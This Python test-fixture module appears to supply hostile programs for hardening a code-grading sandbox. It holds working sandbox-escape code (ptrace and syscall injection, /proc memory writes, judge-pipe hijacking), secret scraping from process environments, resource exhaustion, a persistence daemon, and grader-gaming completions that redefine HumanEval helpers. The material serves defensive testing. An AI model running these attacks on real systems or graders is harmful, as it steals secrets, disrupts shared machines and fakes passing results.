"""Hostile programs grouped by class of attack (issue 30), several variants per class, run by
``tests/hostile/by_class.py`` and asserted in ``tests/sandbox/test_sandbox_hostile.py``.

Written against behaviour, not against one implementation: no PID, path or descriptor number is
assumed (every other process is found in ``/proc``, every descriptor number tried, every
plausible next path planted). The problem is that of ``tests/hostile/cases.py`` (f(x) = 2x + 1);
an attack answers it correctly **only if the attack worked**, so any credit is a breach, or it
plants state for the *next* program, whose failure (or a spy's credit) is the breach.

Classes:

* ``judge_channel`` - get the judge's request/reply pipes (pidfd_getfd, /proc/<pid>/fd, ptrace)
  and answer the judge in the server's place, or inject forged frames into its reply stream;
* ``pid1`` - reach any other process of the sandbox (PID 1 included): ptrace, /proc/<pid>/mem,
  process_vm_*, pidfd_open, prlimit, its /proc files;
* ``environment`` - find the grader's environment (a secret) and return it through the verdict;
* ``state`` - plants for the next program in the same fork server (memory, IPC, keys, limits,
  scheduling of the server, planted paths, full or locked /tmp, files everywhere);
* ``judge_resources`` - replies that cost the judge memory or CPU (measured in the judge);
* ``grading`` - HumanEval helpers redefined next to a trivial entry point, stubs;
* ``neighbour_cpu`` - CPU taken from a neighbouring sandbox;
* ``persistence`` - outliving a SIGKILLed grader.

System call numbers and the ptrace register layout are x86_64's (this project's machines); on
another architecture those attacks fail by themselves and prove nothing.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.hostile import payloads as P

SECRET_VAR = "RLBENCH_HOSTILE_SECRET"


@dataclass(frozen=True)
class Attack:
    cls: str
    name: str
    code: str
    problem: str = "affine"


def _f(body: str, *helpers: object) -> str:
    """A program whose f(x) runs ``body`` (indented here), with the payload helpers it needs."""
    inner = "\n".join("    " + line for line in body.strip().splitlines())
    return P.program(P.others, P.libc, P.ok, *helpers, f"def f(x):\n{inner}\n")


_PIPES = (P.frame, P.forged_call_reply, P.read_frame, P.serve_judge, P.take_over)
_PTRACE = (P.Regs, P.syscall_insn, P.ptrace_inject)

# -- judge channel ------------------------------------------------------------------------------
JUDGE_CHANNEL = [
    Attack("judge_channel", "jc_pidfd_getfd_takeover", _f(
        "take_over(forged_call_reply(x), pipes_by_pidfd())\nreturn -1",
        P.pipes_by_pidfd, *_PIPES)),
    Attack("judge_channel", "jc_procfd_reopen_takeover", _f(
        "take_over(forged_call_reply(x), pipes_by_procfd())\nreturn -1",
        P.pipes_by_procfd, *_PIPES)),
    Attack("judge_channel", "jc_pidfd_blind_injection", _f(
        "got = {k: {'w': v['w']} for k, v in pipes_by_pidfd().items() if 'w' in v}\n"
        "take_over(forged_call_reply(x), got)\nreturn -1", P.pipes_by_pidfd, *_PIPES)),
    Attack("judge_channel", "jc_ptrace_injected_write", _f(
        "data = forged_call_reply(x)\nfor pid in others():\n    for fd in write_pipes_of(pid):\n"
        "        ptrace_inject(pid, 1, (fd, 'BUF', len(data)), data)\nreturn -1",
        P.write_pipes_of, *_PTRACE, *_PIPES)),
    Attack("judge_channel", "jc_own_descriptors_forged", _f(
        "fds = own_foreign_fds()\nfor fd in fds:\n    try:\n"
        "        os.write(fd, forged_call_reply(x))\n    except OSError:\n        pass\n"
        "return ok(x) if fds else -1", P.own_foreign_fds, *_PIPES)),
    Attack("judge_channel", "jc_stdio_takeover", P.program(
        P.others, P.libc, P.ok, P.pipes_by_pidfd, *_PIPES,
        "n = int(input())\ntake_over(frame({'status': 'ok', 'timed_out': False, 'truncated': "
        "False, 'exit': 0, 'signal': None, 'stderr': ''}) + frame(b'%d\\n' % ok(n)), "
        "pipes_by_pidfd())\nprint(-1)\n"), "stdio"),
]

# -- PID 1 and every other process of the sandbox ---------------------------------------------
_ANY = "for pid in others():\n    try:\n{}\n        return ok(x)\n    except Exception:\n" \
       "        pass\nreturn -1"


def _any(attempt: str) -> str:
    """f(x) is right iff ``attempt`` (which may use ``pid``) succeeds on some other process."""
    return _ANY.format("\n".join("        " + line for line in attempt.strip().splitlines()))


PID1 = [
    Attack("pid1", "p1_ptrace_attach_peek_poke", _f(_any(
        "lib = libc()\nassert lib.ptrace(16, pid, None, None) == 0\n"
        "os.waitpid(pid, 0x40000000)\nregs = Regs()\n"
        "lib.ptrace(12, pid, None, ctypes.byref(regs))\n"
        "word = lib.ptrace(2, pid, ctypes.c_void_p(regs.rsp), None)\n"
        "rc = lib.ptrace(5, pid, ctypes.c_void_p(regs.rsp), ctypes.c_void_p(word))\n"
        "lib.ptrace(17, pid, None, None)\nassert rc == 0"), P.Regs)),
    Attack("pid1", "p1_ptrace_seize_interrupt", _f(_any(
        "lib = libc()\nassert lib.ptrace(0x4206, pid, None, None) == 0\n"
        "assert lib.ptrace(0x4207, pid, None, None) == 0\nos.waitpid(pid, 0x40000000)\n"
        "lib.ptrace(17, pid, None, None)"))),
    Attack("pid1", "p1_proc_mem_write", _f(_any(
        "addr = first_writable_word(pid)\nwith open('/proc/%d/mem' % pid, 'r+b', 0) as mem:\n"
        "    mem.seek(addr)\n    word = mem.read(8)\n    mem.seek(addr)\n"
        "    assert mem.write(word) == 8"), P.first_writable_word)),
    Attack("pid1", "p1_process_vm_readv_writev", _f(_any(
        "lib, addr = libc(), first_writable_word(pid)\nbuf = ctypes.create_string_buffer(8)\n"
        "class Iov(ctypes.Structure):\n"
        "    _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
        "mine, theirs = Iov(ctypes.addressof(buf), 8), Iov(addr, 8)\n"
        "one, zero = ctypes.c_ulong(1), ctypes.c_ulong(0)  # the 7th argument goes on the stack\n"
        "for nr in (310, 311):  # process_vm_readv, process_vm_writev\n"
        "    assert lib.syscall(nr, pid, ctypes.byref(mine), one, ctypes.byref(theirs), one,"
        " zero) == 8"),
        P.first_writable_word)),
    Attack("pid1", "p1_injected_syscall", _f(_any(
        "assert (ptrace_inject(pid, 39) or 0) > 0  # getpid() run by the other process"),
        *_PTRACE)),
    Attack("pid1", "p1_pidfd_open_other", _f(_any("assert libc().syscall(434, pid, 0) >= 0"))),
    Attack("pid1", "p1_prlimit_other", _f(_any(
        "import resource\ncur = resource.prlimit(pid, resource.RLIMIT_CORE)\n"
        "resource.prlimit(pid, resource.RLIMIT_CORE, cur)"))),
    Attack("pid1", "p1_proc_introspection", _f(_any(
        "assert open('/proc/%d/maps' % pid).read(1) or os.listdir('/proc/%d/fd' % pid)"))),
    Attack("pid1", "p1_oom_score_adj_other", _f(_any(
        "with open('/proc/%d/oom_score_adj' % pid, 'w') as fh:\n    fh.write('1000')"))),
]

# -- the grader's environment -----------------------------------------------------------------
_FIND = f'''
def find_secret():
    """The first 'NAME=value' entry of any environment this program can read (its own, every
    process's /proc/<pid>/environ, their memory between env_start and env_end) with {SECRET_VAR}."""
    texts = [b"\\0".join(k.encode() + b"=" + v.encode() for k, v in os.environ.items())]
    for pid in others() + [os.getpid()]:
        for name in ("environ", "cmdline"):
            try:
                texts.append(open("/proc/%d/%s" % (pid, name), "rb").read())
            except OSError:
                pass
        try:
            fields = open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()
            lo, hi = int(fields[50]), int(fields[51])
            with open("/proc/%d/mem" % pid, "rb", 0) as mem:
                mem.seek(lo)
                texts.append(mem.read(hi - lo))
        except Exception:
            pass
    for text in texts:
        for entry in text.split(b"\\0"):
            if b"{SECRET_VAR}=" in entry:
                return entry.decode(errors="replace")
    return ""
'''

ENVIRONMENT = [
    Attack("environment", "env_any_environ_found", _f("return ok(x) if find_secret() else -1",
                                                       _FIND)),
    Attack("environment", "env_own_environ", _f(f"return ok(x) if {SECRET_VAR!r} in os.environ "
                                                 "else -1")),
    Attack("environment", "env_leak_through_error", _f("raise RuntimeError(find_secret())",
                                                        _FIND)),
    Attack("environment", "env_leak_through_assert_message", _f("return find_secret() or -1",
                                                                 _FIND), "affine_msg"),
    Attack("environment", "env_leak_at_import", P.program(P.others, _FIND,
                                                          "raise SystemExit(find_secret())\n")),
    Attack("environment", "env_leak_through_stderr", P.program(
        P.others, _FIND, "import sys\nsys.stderr.write(find_secret() + '\\n')\nsys.exit(1)\n"),
        "stdio"),
]
# the agentic task's python tool (one fresh sandbox per call): its text must not show the secret
TOOL_CODE = [P.program(P.others, _FIND, "print(find_secret())\n"),
             "import os\nfor p in os.listdir('/proc'):\n    try:\n"
             "        print(open('/proc/%s/environ' % p, 'rb').read())\n    except Exception:\n"
             "        pass\nprint(dict(os.environ))\n"]

# -- state left for the next program ------------------------------------------------------------
_SYSV = '''
lib = libc()
lib.shmat.restype = ctypes.c_void_p
key = 0x52424C50
size = 300 << 20
sid = lib.shmget(key, ctypes.c_size_t(size), 0o1600)  # IPC_CREAT | 0600
addr = lib.shmat(sid, None, 0)
if addr and addr != 2**64 - 1:
    ctypes.memset(addr, 1, ctypes.c_size_t(size))
    lib.shmdt(ctypes.c_void_p(addr))
lib.semget(key, 4, 0o1600)
q = lib.msgget(key, 0o1600)
msg = ctypes.create_string_buffer(b"\\1" + b"\\0" * 7 + MARK.encode() * 100)
lib.msgsnd(q, msg, ctypes.c_size_t(1000), 0o4000)  # IPC_NOWAIT
'''


def _plant(name: str, body: str, *helpers: object) -> Attack:
    """A program that plants state at import time and then answers wrongly."""
    return Attack("state", name, P.program(P.others, P.libc, *helpers, body.strip() + "\n",
                                           "def f(x):\n    return -1\n"))


STATE = [
    _plant("st_devshm_fill", "for i in range(19):\n    try:\n"
           "        with open('/dev/shm/%s-%d' % (MARK, i), 'wb') as fh:\n"
           "            fh.write(b'\\1' * (16 << 20))\n    except OSError:\n        break"),
    _plant("st_sysv_ipc", _SYSV),
    _plant("st_posix_mqueue", "lib = libc()\nq = lib.mq_open(('/' + MARK).encode(), 0o102, 0o600, "
           "None)\nlib.mq_send(q, MARK.encode(), len(MARK), 0)"),
    _plant("st_kernel_keyring", "for ring in (-3, -4, -5):\n"
           "    libc().syscall(248, b'user', MARK.encode(), b'x', 1, ring)"),
    _plant("st_prlimit_as", "import resource\nfor pid in others():\n    try:\n"
           "        resource.prlimit(pid, resource.RLIMIT_AS, (64 << 20, 64 << 20))\n"
           "    except OSError:\n        pass"),
    _plant("st_prlimit_nofile", "import resource\nfor pid in others():\n    try:\n"
           "        resource.prlimit(pid, resource.RLIMIT_NOFILE, (5, 5))\n"
           "    except OSError:\n        pass"),
    _plant("st_prlimit_cpu", "import resource\nfor pid in others():\n    try:\n"
           "        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))\n"
           "    except OSError:\n        pass"),
    _plant("st_prlimit_fsize_nproc", "import resource\nfor pid in others():\n"
           "    for res, v in ((resource.RLIMIT_FSIZE, 1024), (resource.RLIMIT_NPROC, 2)):\n"
           "        try:\n            resource.prlimit(pid, res, (v, v))\n"
           "        except OSError:\n            pass"),
    _plant("st_server_scheduling", "lib = libc()\nfor pid in others():\n"
           "    for fn in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),\n"
           "               lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),\n"
           "               lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))}),\n"
           "               lambda: lib.syscall(251, 1, pid, 3 << 13)):\n"
           "        try:\n            fn()\n        except OSError:\n            pass"),
    _plant("st_mode000_next_paths", "for p in next_paths():\n    try:\n        os.mkdir(p, 0)\n"
           "    except OSError:\n        pass", P.next_paths),
    _plant("st_symlink_next_paths", "d = os.path.join(os.path.dirname(os.getcwd()), MARK + '-dir')"
           "\nos.makedirs(d, exist_ok=True)\nopen(os.path.join(d, MARK), 'w').close()\n"
           "for i, p in enumerate(next_paths()):\n    try:\n"
           "        os.symlink(d if i % 2 else '/', p)\n    except OSError:\n        pass",
           P.next_paths),
    _plant("st_fifo_next_paths", "for p in next_paths():\n    try:\n        os.mkfifo(p, 0o666)\n"
           "    except OSError:\n        pass", P.next_paths),
    _plant("st_tmp_full", "d = os.path.dirname(os.getcwd())\nfor i in range(200):\n    try:\n"
           "        with open(os.path.join(d, '%s-fill-%d' % (MARK, i)), 'wb') as fh:\n"
           "            fh.write(b'\\1' * (1 << 20))\n    except OSError:\n        break"),
    _plant("st_tmp_locked", "plant_everywhere('locked')\nfor d in (os.path.dirname(os.getcwd()), "
           "'/tmp', '/dev/shm', '/'):\n    try:\n        os.chmod(d, 0)\n    except OSError:\n"
           "        pass", P.plant_everywhere),
    _plant("st_files_everywhere", "plant_everywhere('file')\nopen('../%s-sibling' % MARK, 'w')",
           P.plant_everywhere),
    _plant("st_signals_to_others", "for pid in others():\n    for sig in (signal.SIGSTOP, "
           "signal.SIGCONT, signal.SIGHUP, signal.SIGUSR1, signal.SIGXFSZ, signal.SIGTERM):\n"
           "        try:\n            os.kill(pid, sig)\n        except OSError:\n"
           "            pass"),
]
# answers right iff it sees what an earlier program left; the third test says what it saw
SPY = P.program(P.others, P.libc, P.ok, P.spy, "def f(x):\n    seen = spy()\n"
                "    if seen and x == 10:\n        raise RuntimeError('saw ' + seen)\n"
                "    return ok(x) if seen else -1\n")
# honest programs that need what a plant takes: memory, files, CPU, threads, the cwd, stdio
NEEDY = ("import os, threading, time\ndef f(x):\n    buf = bytearray(150 << 20)\n"
         "    for i in range(0, len(buf), 4096):\n        buf[i] = 1\n    del buf\n"
         "    files = [open('needy-%d' % i, 'w') for i in range(8)]\n    for fh in files:\n"
         "        fh.write('x' * 1024)\n        fh.close()\n"
         "    with open('blob', 'wb') as fh:\n        fh.write(b'y' * (1 << 20))\n"
         "    assert os.path.getsize('blob') == 1 << 20\n    t0 = time.process_time()\n"
         "    while time.process_time() - t0 < 0.1:\n        pass\n"
         "    th = threading.Thread(target=time.sleep, args=(0.01,))\n    th.start()\n"
         "    th.join()\n    return 2 * x + 1\n")
NEEDY_STDIO = "n = int(input())\nopen('out.txt', 'w').write(str(n))\nprint(2 * n + 1)\n"

# -- the judge's own resources (measured in the judge's process) --------------------------------
_DEEP = "v = {'t': 'list', 'v': []}\nfor _ in range(198):\n    v = {'t': 'list', 'v': [v]}\n"
JUDGE_RESOURCES = [
    Attack("judge_resources", "jr_list_of_empty_lists", "def f(x):\n    return [[]] * 690000\n",
           "affine20"),
    Attack("judge_resources", "jr_nested_empty_lists_raw", P.program(
        P.frame, P.read_frame, P._is_sock, P.raw_serve,
        "def f(x):\n    item = b'{\"t\":\"list\",\"v\":[{\"t\":\"list\",\"v\":[]}]},'\n"
        "    n = ((16 << 20) - 100) // len(item)\n    raw_serve(b'{\"ok\":true,\"value\":"
        "{\"t\":\"list\",\"v\":[' + item * (n - 1) + item[:-1] + b']}}')\n"), "affine20"),
    Attack("judge_resources", "jr_empty_objects_raw", P.program(
        P.frame, P.read_frame, P._is_sock, P.raw_serve,
        "def f(x):\n    n = ((16 << 20) - 100) // 3\n    raw_serve(b'{\"ok\":true,\"value\":"
        "{\"t\":\"list\",\"v\":[' + b'{},' * (n - 1) + b'{}]}}')\n"), "affine20"),
    Attack("judge_resources", "jr_deeply_nested_raw", P.program(
        P.frame, P.read_frame, P._is_sock, P.raw_serve, "def f(x):\n" + "\n".join(
            "    " + line for line in _DEEP.splitlines()) +
        "\n    one = json.dumps(v, separators=(',', ':')).encode()\n"
        "    n = ((16 << 20) - 100) // (len(one) + 1)\n"
        "    raw_serve(b'{\"ok\":true,\"value\":{\"t\":\"list\",\"v\":[' + b','.join([one] * n) "
        "+ b']}}')\n"), "affine20"),
    Attack("judge_resources", "jr_750k_top_level_names",
           "globals().update(('n%d' % i, 0) for i in range(750000))\n"
           "def f(x):\n    return -1\n", "affine20"),
    # f is bound to 0: the judge never calls into the sandbox, so no call checks its deadline
    Attack("judge_resources", "jr_names_raw_no_calls", P.program(
        P.frame, P.read_frame, P._is_sock, P.raw_serve,
        "import itertools, string\nchars = string.ascii_letters\nnames = (''.join(t) for k in "
        "(1, 2, 3, 4) for t in itertools.product(chars, repeat=k))\n"
        "body = b','.join(b'\"%s\":0' % n.encode() for n in itertools.islice(names, 1700000))\n"
        "raw_serve(b'{\"ok\":true,\"names\":{' + body + b'}}')\n")),
]

# -- a neighbouring sandbox's CPU -----------------------------------------------------------------
_SPIN = "def spin():\n    while True:\n        pass\n"
NEIGHBOUR_CPU = [
    Attack("neighbour_cpu", "nc_setsid_spinners", _SPIN + "import os, time\nfor _ in range(13):\n"
           "    try:\n        if os.fork() == 0:\n            os.setsid()\n            spin()\n"
           "    except OSError:\n        break\ndef f(x):\n    time.sleep(1.5)\n    return -1\n"),
    Attack("neighbour_cpu", "nc_gil_free_threads", "import ctypes, hashlib, threading, time\n"
           "ctypes.CDLL(None).mallopt(-8, 1)  # M_ARENA_MAX: threads within RLIMIT_AS\n"
           "data = b'x' * (1 << 20)\ndef burn():\n    while True:\n        hashlib.sha256(data)\n"
           "for _ in range(13):\n    try:\n"
           "        threading.Thread(target=burn, daemon=True).start()\n"
           "    except RuntimeError:\n        break\n"
           "def f(x):\n    time.sleep(1.5)\n    return -1\n"),
    Attack("neighbour_cpu", "nc_priority_raise_attempts", _SPIN + "import os, time\n"
           "for _ in range(13):\n    try:\n        if os.fork() == 0:\n            os.setsid()\n"
           "            for fn in (lambda: os.nice(-20), lambda: os.setpriority(os.PRIO_PROCESS, 0,"
           " -20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):\n"
           "                try:\n                    fn()\n                except OSError:\n"
           "                    pass\n            spin()\n    except OSError:\n        break\n"
           "def f(x):\n    time.sleep(1.5)\n    return -1\n"),
    Attack("neighbour_cpu", "nc_affinity_spread", _SPIN + "import os, time\n"
           "cpus = sorted(os.sched_getaffinity(0)) or [0]\nfor i in range(13):\n    try:\n"
           "        if os.fork() == 0:\n            os.setsid()\n            try:\n"
           "                os.sched_setaffinity(0, set(range(os.cpu_count())))\n"
           "                os.sched_setaffinity(0, {i % os.cpu_count()})\n"
           "            except OSError:\n                pass\n            spin()\n"
           "    except OSError:\n        break\ndef f(x):\n    time.sleep(1.5)\n    return -1\n"),
]
# the neighbour: CPU-bound, 0.4 s of CPU per test (about 1.3 s for 3 tests alone)
CPU_HONEST = ("import time\ndef f(x):\n    t0 = time.process_time()\n"
              "    while time.process_time() - t0 < 0.4:\n        pass\n    return 2 * x + 1\n")

# -- outliving a SIGKILLed grader (f(2) prepares, then the grader is killed during f(3)) ---------
_DAEMON = '''
def daemon():
    """setsid double fork, no parent-death signal, SIGTERM/SIGHUP ignored; then stops every
    other process of the sandbox but PID 1 (a stopped server never exits, so neither does the
    sandbox's init) and leaves a file and a shared-memory segment behind."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    libc().prctl(1, 0, 0, 0, 0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    time.sleep(0.5)
    for pid in others():
        if pid != 1:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    plant_everywhere("persist")
    time.sleep(120)
    os._exit(0)
'''
_PERSIST_F = "def f(x):\n    if x == 2:\n{}\n        return ok(x)\n    time.sleep(30)\n"
PERSISTENCE = [
    Attack("persistence", "pk_plain_sigkill", P.program(P.ok, _PERSIST_F.format("        pass"))),
    Attack("persistence", "pk_setsid_daemon", P.program(
        P.others, P.libc, P.ok, P.plant_everywhere, _DAEMON,
        _PERSIST_F.format("        daemon()"))),
    Attack("persistence", "pk_ptrace_pid1_no_deathsig", P.program(
        P.others, P.libc, P.ok, P.plant_everywhere, *_PTRACE, _DAEMON, _PERSIST_F.format(
            "        for pid in others():\n            ptrace_inject(pid, 157, (1, 0))\n"
            "        daemon()"))),
    Attack("persistence", "pk_ptrace_all_ignore_signals", P.program(
        P.others, P.libc, P.ok, P.plant_everywhere, *_PTRACE, _DAEMON, _PERSIST_F.format(
            "        for pid in others():\n            ptrace_inject(pid, 157, (1, 0))\n"
            "            for sig in (1, 15):\n                ptrace_inject(pid, 13, (sig, 'BUF',"
            " 0, 8), (1).to_bytes(8, 'little') + bytes(24))\n        daemon()"))),
]

ALL = JUDGE_CHANNEL + PID1 + ENVIRONMENT + STATE + JUDGE_RESOURCES + NEIGHBOUR_CPU + PERSISTENCE

PROBLEMS = {
    "affine": {"kind": "functional", "preamble": "",
               "units": ["assert f(2) == 5\n", "assert f(3) == 7\n", "assert f(10) == 21\n"]},
    # a test that shows what it got (common in datasets): a leaked value would be in the error
    "affine_msg": {"kind": "functional", "preamble": "",
                   "units": [f"r = f({k})\nassert r == {2 * k + 1}, r\n" for k in (2, 3, 10)]},
    "affine20": {"kind": "functional", "preamble": "",
                 "units": [f"assert f({k}) == {2 * k + 1}\n" for k in range(1, 21)]},
    "stdio": {"kind": "stdio", "preamble": "",
              "units": [{"input": "2\n", "output": "5\n"}, {"input": "3\n", "output": "7\n"}]},
}
HONEST = {"affine": "def f(x):\n    return 2 * x + 1\n",
          "stdio": "n = int(input())\nprint(2 * n + 1)\n"}
WRONG = {"affine": "def f(x):\n    return -1\n", "stdio": "print(-1)\n"}

# -- grading logic: HumanEval problems whose test calls a helper of the prompt ------------------
# problem index: (helper, its trivial replacement's body, the trivial entry point's body)
HELPER_PROBLEMS = {32: ("poly", "0.0", "0.0"), 38: ("encode_cyclic", "s", "s"),
                   50: ("encode_shift", "s", "s")}
_ARGS = {"poly": "xs, x", "encode_cyclic": "s", "encode_shift": "s"}


def helper_redefinitions(helper: str, value: str, entry_body: str) -> dict[str, str]:
    """Completions (appended to the prompt's code, as the code task does) that return something
    trivial from the entry point and redefine the prompt's helper so the test's check holds."""
    args = _ARGS[helper]
    ret = f"    return {entry_body}\n\n\n"
    return {
        "gl_redefine_def": ret + f"def {helper}({args}):\n    return {value}\n",
        "gl_redefine_globals": ret + f"globals()[{helper!r}] = lambda {args}: {value}\n",
        "gl_redefine_callable_instance": ret + "class _Helper:\n"
        f"    def __call__(self, {args}):\n        return {value}\n{helper} = _Helper()\n",
        "gl_redefine_lambda": ret + f"{helper} = lambda {args}: {value}\n",
        "gl_redefine_via_exec": ret + f"exec({helper!r} + ' = lambda {args}: {value}')\n",
    }


STUBS = {"gl_stub_none": "    return None\n", "gl_stub_raise": "    raise NotImplementedError\n"}
